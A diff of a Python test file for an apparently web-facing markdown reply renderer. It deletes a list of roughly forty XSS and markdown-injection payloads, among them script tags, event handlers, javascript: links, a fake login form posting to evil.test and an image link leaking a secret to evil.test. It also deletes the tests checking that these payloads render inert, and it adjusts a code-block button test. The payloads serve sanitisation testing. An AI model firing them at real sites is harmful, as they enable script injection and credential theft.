@@ -76,64 +76,6 @@ def cut(source: str, longest: int, chance: random.Random) -> Iterator[str]:
         source = source[size:]
 
 
-HOSTILE = [
-    '<script>alert(1)</script>',
-    '<ScRiPt src=https://evil.test/x.js></sCrIpT>',
-    '<style>body { display: none }</style>',
-    '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
-    '<iframe src="https://evil.test"></iframe><object data=x></object><embed src=x>',
-    '<svg onload=alert(1)><math><mtext></svg>',
-    '<img src=x onerror=alert(1)>',
-    '<div class="fixed inset-0" style="position:fixed" id="app">over all</div>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<base href="https://evil.test"><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.test>',
-    '<!-- comment --><![CDATA[ <script> ]]><?php x ?>',
-    '<br onclick=alert(1)><br/ onclick=alert(1)>',
-    '[x](javascript:alert(1))',
-    '[x](JaVaScRiPt:alert(1))',
-    '[x](  javascript:alert(1)  "t")',
-    '[x](<javascript:alert(1)>)',
-    '[x](&#106;avascript:alert(1))',
-    '[x](&#x6A;&#x61;vascript&colon;alert(1))',
-    '[x](java\\script:alert(1))',
-    '[x](\x01javascript:alert(1))',
-    '[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:x)',
-    '[x](data:text/html;base64,PHNjcmlwdD4=)',
-    '[x](//evil.test) [x](/api/system/stop) [x](#app)',
-    '[x](https://ok.test/"onmouseover="alert(1))',
-    '[x](https://ok.test "title\\" onmouseover=alert(1)")',
-    '[x]: javascript:alert(1)\n\n[x]',
-    '<javascript:alert(1)> <data:text/html,x>',
-    '![x](https://evil.test/?q=secret)',
-    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
-    '![x" onerror="alert(1)](https://evil.test/a.png)',
-    '[![x](https://evil.test/a.png)](javascript:alert(1))',
-    '```"><script>alert(1)</script>\nx\n```',
-    '```py"onclick="alert(1)\nx\n```',
-    '``` <img/src=x>\nx',
-    '```html\n<script>alert(1)</script>\n</code></pre><script>alert(2)</script>',
-    '- ```html\n  </code></pre></div><script>alert(2)</script>',
-    '> ```x"><script>\n> </pre><script>alert(1)</script>\n> ```',
-    '| <script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:a) |',
-    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
-    '`<script>` **<script>** ~~<img src=x>~~',
-    '# <script>alert(1)</script>',
-    '<scr<script>ipt>alert(1)</scr</script>ipt>',
-    '<p style="x" onclick=alert(1)><a href=" &#14; javascript:alert(1)">',
-]
-
-
-@pytest.mark.parametrize('source', HOSTILE)
-def test_nothing_in_a_reply_acts(source: str) -> None:
-    assert violations(render(source)) == []
-
-
-@pytest.mark.parametrize('source', [source for source in HOSTILE if source.startswith('<') and '<br' not in source])
-def test_html_is_shown_as_it_was_written(source: str) -> None:
-    text = Page(render(source)).text
-    assert re.findall(r'\w+', text) == re.findall(r'\w+', source.replace('&#14;', '\x0e'))
-
-
 def test_a_picture_is_a_link_and_not_loaded() -> None:
     page = Page(render('![a cat](https://example.org/cat.png)'))
     assert page.all('img') == []
@@ -141,10 +83,10 @@ def test_a_picture_is_a_link_and_not_loaded() -> None:
     assert page.text.strip() == 'a cat'
 
 
-def test_code_has_its_language_a_copy_button_and_colours() -> None:
+def test_code_has_its_language_a_place_for_buttons_and_colours() -> None:
     page = Page(render('```python\nreturn 1  # <b>\n```'))
-    assert page.text == 'pythonWrapCopyreturn 1  # <b>\n'
-    assert [button['data-testid'] for button in page.all('button')] == ['wrap-code', 'copy-code']
+    assert page.text == 'pythonreturn 1  # <b>\n'
+    assert page.all('code-tools') == [{}]
     assert {'class': 'k'} in page.all('span')
     assert {'class': 'c1'} in page.all('span')
 
